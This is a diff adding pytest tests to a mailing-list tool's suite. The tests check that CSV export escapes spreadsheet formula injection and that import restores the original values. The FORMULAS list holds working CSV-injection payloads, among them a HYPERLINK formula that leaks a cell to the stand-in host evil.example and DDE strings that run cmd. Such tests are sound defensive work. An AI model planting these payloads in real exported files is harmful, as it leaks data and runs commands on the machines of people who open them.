@@ -6,10 +6,11 @@ as a clear failure that is not a bounce (aiosmtpd with and without
 SMTPUTF8 in its EHLO)."""
 import shutil
 import sqlite3
+import subprocess
 
 import pytest
 
-from conftest import SEED, Env
+from conftest import MATRIXCTL, SEED, Env
 from smtpd import PASSWORD, USER, Server
 
 SPELLINGS = ["u@bücher.de", "u@BÜCHER.de", "u@xn--bcher-kva.de", "u@bu\u0308cher.de"]
@@ -204,3 +205,57 @@ def test_migration_rekeys_and_reports_conflicts(env):
     assert env.ctl("subscribers").stderr == ""
     p = env.ctl("forget", "--id", "99999")
     assert p.returncode == 1 and "no subscriber has id 99999" in p.stderr
+
+
+# ---- CSV cells a spreadsheet would run -----------------------------------------
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]
+
+
+def export_bytes(env):
+    p = subprocess.run([str(MATRIXCTL), "-c", str(env.conf), "export"], capture_output=True)
+    assert p.returncode == 0, p.stderr
+    return p.stdout
+
+
+def cells(data):
+    import csv
+    import io
+    return list(csv.reader(io.StringIO(data.decode(), newline="")))
+
+
+def test_export_neutralises_formulas_and_import_takes_them_back(tmp_path):
+    (tmp_path / "a").mkdir()
+    (tmp_path / "b").mkdir()
+    a = Env(tmp_path / "a")
+    names = FORMULAS + ["'Tis", "''", "'=already quoted", "plain 名字"]
+    for i, name in enumerate(names):
+        a.ctl("subscribe", f"r{i}@example.org", "--name", name, check=0)
+    addrs = ("=x@example.org", "-y@example.org", "+z@example.org", "'=q@example.org")
+    for addr in addrs:
+        a.ctl("subscribe", "--", addr, check=0)
+    note = write(tmp_path / "note.csv", "email,note\r\nr0@example.org,\"=1+1\"\r\n"
+                 "r1@example.org,\"\tTAB\"\r\nr2@example.org,\"\rCR\"\r\n")
+    a.ctl("import", note, check=0)
+    first = export_bytes(a)
+    rows = cells(first)
+    for row in rows[1:]:
+        for cell in row:
+            # OWASP: no cell a spreadsheet would evaluate
+            assert not cell or cell[0] not in "=+-@\t\r", row
+    assert ["'=x@example.org", "", "article", "confirmed", ""] in rows
+
+    b = Env(tmp_path / "b")
+    exported = write(tmp_path / "export.csv", first)
+    r = b.ctl_json("import", exported)
+    assert r["rejected"] == 0 and r["added"] == len(rows) - 1
+    second = export_bytes(b)
+    assert second == first  # export -> import -> export: the same bytes
+    for i, name in enumerate(names):
+        assert b.ctl_json("show", f"r{i}@example.org")["name"] == name
+    for addr in addrs:
+        assert b.ctl_json("show", "--", addr)["email"] == addr
+    assert b.ctl_json("show", "r0@example.org")["attrs"] == {"note": "=1+1"}
+    assert b.ctl_json("show", "r1@example.org")["attrs"] == {"note": "\tTAB"}
+    assert b.ctl_json("show", "r2@example.org")["attrs"] == {"note": "\rCR"}
